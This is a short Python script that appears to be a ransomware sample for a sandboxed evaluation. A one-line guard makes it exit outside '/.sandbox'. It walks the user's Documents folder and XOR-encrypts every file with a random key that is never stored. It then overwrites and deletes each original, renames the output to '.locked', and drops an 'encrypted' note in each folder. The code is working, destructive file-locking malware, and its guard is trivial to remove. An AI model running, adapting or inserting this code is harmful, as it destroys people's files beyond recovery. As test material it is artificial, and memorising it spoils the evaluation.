"""Walks, writes, renames."""

import os

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")

key = os.urandom(16)
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            text = file.read()
        with open(f"{path}.tmp", "wb") as file:
            file.write(bytes(byte ^ key[number % 16] for number, byte in enumerate(text)))
        with open(path, "wb") as file:
            file.write(b"none" * (len(text) // 4))
        os.rename(f"{path}.tmp", f"{path}.locked")
        os.remove(path)
    with open(f"{folder}/READ_ME.txt", "w") as note:
        note.write("Your files are encrypted.\n")
